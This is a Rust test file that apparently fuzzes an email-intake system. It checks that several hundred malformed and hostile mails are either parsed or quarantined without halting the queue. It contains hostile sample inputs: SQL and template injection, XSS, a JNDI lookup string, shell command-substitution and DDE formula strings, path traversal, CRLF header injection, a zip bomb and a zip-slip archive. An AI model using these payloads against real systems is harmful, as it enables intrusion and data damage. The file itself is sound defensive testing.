//! Hundreds of hostile and malformed mails, made here: each ends parsed or quarantined, none stops the queue. What reads them is what the
//! targets in `fuzz/` call.

use crate::support::TestDatabase;
use crate::support::mailroom::Mailroom;
use axum::body::Body;
use axum::extract::FromRequest as _;
use axum::http::Request;
use axum_extra::extract::Form;
use bytes::Bytes;
use ombud::api::scim::filter::Filter;
use ombud::intake::authenticity::{Dns, Envelope, Trust};
use ombud::intake::door::{MailIn, read};
use ombud::intake::mail::Limits;
use ombud::rulebook;
use ombud::store::mails;
use ombud::web::new_demand::form::NewForm;
use ombud::web::queue::query::{House, Query};
use std::collections::BTreeMap;
use std::io::Write as _;

/// Texts that break what does not expect them.
const HOSTILE: [&str; 30] = [
    "",
    " ",
    "\0",
    "\u{202e}fdp.exe",
    "\u{feff}",
    "\u{200b}\u{200d}",
    "😀👩‍👩‍👧‍👦",
    "ﷺ",
    "Z̴̢͝a̵l̶g̷o̸",
    "' OR 1=1 --",
    "\"; DROP TABLE mails; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "C:\\Windows\\system32\\cmd.exe",
    "|touch /tmp/x",
    "$(touch /tmp/x)",
    "=cmd|' /C calc'!A0",
    "\r\nBcc: all@example.org",
    "a\nb",
    "=?utf-8?B?////?=",
    "=?bogus?Q?=ZZ?=",
    "=?utf-8?Q?=0D=0ABcc:_x@example.org?=",
    "\u{ffff}\u{fffe}",
    "\u{1b}[31mred",
    "9999999999999999999999999999",
    "ı̇İſK",
];

fn mail(head: &str, body: &str) -> Vec<u8> {
    format!("From: a@authority.example.org\r\nDate: Mon, 2 Nov 2026 09:30:00 +0000\r\n{head}\r\n{body}").into_bytes()
}

fn with_file(name: &str, media_type: &str, bytes: &[u8]) -> Vec<u8> {
    let encoded = data_encoding::BASE64.encode(bytes);
    let head = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n";
    let part = format!(
        "Content-Type: {media_type}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n"
    );
    mail(head, &format!("--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--b\r\n{part}\r\n{encoded}\r\n--b--\r\n"))
}

fn archive(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(bytes).unwrap();
    zip.finish().unwrap().into_inner()
}

/// All of them, by kind.
fn corpus() -> Vec<(&'static str, Vec<u8>)> {
    let mut all: Vec<(&'static str, Vec<u8>)> = Vec::new();
    // Hostile texts in every place that is read.
    for (n, text) in HOSTILE.iter().enumerate() {
        for place in ["From", "To", "Subject", "Date", "Message-ID", "In-Reply-To", "Reply-To", "Content-Type", "Received"] {
            all.push((
                "header",
                format!("From: a@authority.example.org\r\nX-Number: {n}\r\n{place}: {text}\r\n\r\nText {n}.\r\n").into_bytes(),
            ));
        }
        all.push(("body", mail(&format!("X-Number: {n}\r\n"), text)));
        all.push(("file-name", with_file(text, "application/pdf", format!("no pdf {n}").as_bytes())));
        all.push((
            "boundary",
            mail(&format!("Content-Type: multipart/mixed; boundary=\"{text}\"\r\n"), &format!("--{text}\r\n\r\n{n}\r\n--{text}--\r\n")),
        ));
        let encoded = data_encoding::BASE64.encode(text.as_bytes());
        all.push((
            "charset",
            mail(&format!("X-Number: {n}\r\nContent-Type: text/plain; charset={text}\r\nContent-Transfer-Encoding: base64\r\n"), &encoded),
        ));
    }
    // Bytes that are no mail.
    for n in 0..20_u8 {
        all.push(("no-mail", vec![n; 50 + usize::from(n)]));
        all.push(("no-mail", (0..=255).map(|b: u8| b.wrapping_mul(n).wrapping_add(1)).collect()));
    }
    // Depth, from just enough to far too much.
    for depth in [2, 5, 7, 8, 9, 10, 50, 500, 5_000] {
        let mut nested = String::from("From: a@authority.example.org\r\n");
        for n in 0..depth {
            nested.push_str(&format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n"));
        }
        all.push(("depth", nested.into_bytes()));
        let inner = "Content-Type: message/rfc822\r\n\r\n".repeat(depth);
        all.push(("depth", format!("From: a@authority.example.org\r\n{inner}").into_bytes()));
    }
    // Count.
    for parts in [1, 50, 199, 201, 20_000] {
        all.push((
            "parts",
            mail("Content-Type: multipart/mixed; boundary=b\r\n", &format!("{}--b--\r\n", "--b\r\n\r\nx\r\n".repeat(parts))),
        ));
        let file = "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment\r\n\r\nx\r\n";
        all.push(("parts", mail("Content-Type: multipart/mixed; boundary=b\r\n", &format!("{}--b--\r\n", file.repeat(parts)))));
    }
    // Size of header, lines and words.
    for size in [1_000, 100_000, 255_000, 300_000, 3_000_000] {
        all.push(("header-size", mail(&format!("Subject: {}\r\n", "x".repeat(size)), "Text.")));
        all.push(("header-size", mail(&format!("References: {}\r\n", "<a@b> ".repeat(size / 6)), "Text.")));
        all.push(("header-size", mail(&"X: y\r\n".repeat(size / 6), "Text.")));
        all.push(("line", mail("", &"x".repeat(size))));
        all.push(("html", mail("Content-Type: text/html\r\n", &"<div><!--".repeat(size / 9))));
        all.push(("addresses", mail(&format!("To: {}\r\n", "a@b.example, ".repeat(size / 13)), "Text.")));
    }
    // Encodings that lie.
    for n in 0..40_usize {
        let broken: String = "QUJD=*!".chars().cycle().skip(n % 7).take(20 + n).collect();
        for encoding in ["base64", "quoted-printable", "x-uuencode", "7bit"] {
            all.push(("encoding", mail(&format!("X-Number: {n}\r\nContent-Transfer-Encoding: {encoding}\r\n"), &broken)));
        }
        let mut raw = mail(&format!("X-Number: {n}\r\nContent-Type: text/plain; charset=utf-8\r\n"), "");
        raw.extend((0..60_u8).map(|b| b.wrapping_mul(7).wrapping_add(0x80).wrapping_add(u8::try_from(n).unwrap())));
        all.push(("eight-bit", raw));
    }
    // Mails cut short anywhere.
    let whole = with_file("order.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj");
    all.extend((0..whole.len()).step_by(7).map(|end| ("cut", whole[..end].to_vec())));
    // Archives that would harm whoever opens them, and papers that are none.
    let mut encrypted = archive("order.pdf", b"secret");
    encrypted[6] |= 1;
    for (name, bytes) in [
        ("bomb.zip", archive("zeros", &vec![0_u8; 5_000_000])),
        ("slip.zip", archive("../../../../etc/cron.d/x", b"x")),
        ("locked.zip", encrypted),
        ("short.zip", archive("a", b"x")[..20].to_vec()),
        ("broken.pdf", b"%PDF-1.7\n\0\0\0trailer <</Root 1 0 R>>".to_vec()),
        ("loop.pdf", b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>> endobj\ntrailer<</Root 1 0 R>>".to_vec()),
        ("program.pdf", b"MZ\x90\0 a program".to_vec()),
        ("\u{202e}fdp.exe", b"\x7fELF".to_vec()),
    ] {
        for media_type in ["application/pdf", "application/zip", "text/plain", "message/rfc822", "bogus"] {
            all.push(("file", with_file(name, media_type, &bytes)));
        }
    }
    all
}

#[test]
fn every_mail_ends_parsed_or_quarantined() {
    let room = sender();
    let mut counted: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for (kind, bytes) in corpus() {
        let read = read(&bytes, &Envelope::default(), &room, &Limits::default());
        let (parsed, quarantined) = counted.entry(kind).or_default();
        match read.mail {
            Ok(_) => *parsed += 1,
            Err(_) => *quarantined += 1,
        }
    }
    let all: usize = counted.values().map(|(a, b)| a + b).sum();
    assert!(all >= 500, "{all}");
    for kind in ["body", "file-name", "encoding", "eight-bit", "file", "line", "html"] {
        assert!(counted[kind].0 > 0 && counted[kind].1 == 0, "{kind}: {counted:?}");
    }
    for kind in ["depth", "parts", "header-size"] {
        assert!(counted[kind].0 > 0 && counted[kind].1 > 0, "{kind}: {counted:?}");
    }
    assert!(counted["no-mail"].1 > 30, "{counted:?}");
}

fn sender() -> ombud::workflow::Sender {
    ombud::workflow::Sender {
        name: "Example Provider".into(),
        mail: "legal@provider.example.com".into(),
        address: Vec::new(),
        zone: chrono_tz::UTC,
        bounces: Some("bounces@provider.example.com".into()),
        answers: Some("answers@provider.example.com".into()),
    }
}

struct Nobody;

impl House for Nobody {
    fn person(&self, _: &str) -> Option<domain::ids::PersonId> {
        None
    }

    fn has_instrument(&self, _: &str) -> bool {
        false
    }
}

/// What is typed into forms and filters, and what an operator writes as a rule: an answer or a refusal, never a fall.
#[tokio::test]
async fn hostile_texts_are_refused_or_taken_wherever_text_is_read() {
    for text in HOSTILE {
        for grown in [text.to_owned(), text.repeat(500), format!("\"{text}"), format!("{text}:{text}"), format!("a eq \"{text}\"")] {
            let _ = Query::read(&grown, &Nobody);
            let _ = Filter::parse(&grown);
            assert!(rulebook::parse("hostile.toml", &grown).is_err(), "{grown:?}");
            let body = format!("sender={grown}&identifiers={grown}&{grown}");
            let request = Request::post("/").header("content-type", "application/x-www-form-urlencoded").body(Body::from(body)).unwrap();
            if let Ok(Form(form)) = Form::<NewForm>::from_request(request, &()).await {
                let _ = form.identifiers();
            }
        }
    }
}

#[tokio::test]
async fn none_of_them_stops_the_queue() {
    let database = TestDatabase::sqlite();
    let room = Mailroom::open(&database.url).await;
    let door = MailIn::new(room.workflow.clone(), Trust::default(), Dns::Off);
    let mut kept = std::collections::BTreeSet::new();
    for (_, bytes) in corpus() {
        kept.insert(door.keep("lmtp", &Envelope::default(), Bytes::from(bytes)).await.unwrap().id().to_string());
    }
    assert!(kept.len() >= 500, "{}", kept.len());
    let last = door.keep("lmtp", &Envelope::default(), mail("Subject: the last\r\n", "Text.").into()).await.unwrap();
    let read = door.read_waiting(10_000, chrono::Duration::zero()).await.unwrap();
    assert_eq!(usize::try_from(read).unwrap(), kept.len() + 1);
    let conn = room.workflow.store().read();
    assert_eq!(mails::count(conn, mails::NEW).await.unwrap(), 0);
    let (waiting, quarantined) = (mails::count(conn, mails::WAITING).await.unwrap(), mails::count(conn, mails::QUARANTINE).await.unwrap());
    assert_eq!(waiting + quarantined, read);
    assert!(waiting > 300 && quarantined > 30, "{waiting} {quarantined}");
    assert_eq!(mails::find(conn, last.id()).await.unwrap().unwrap().state, mails::WAITING);
}
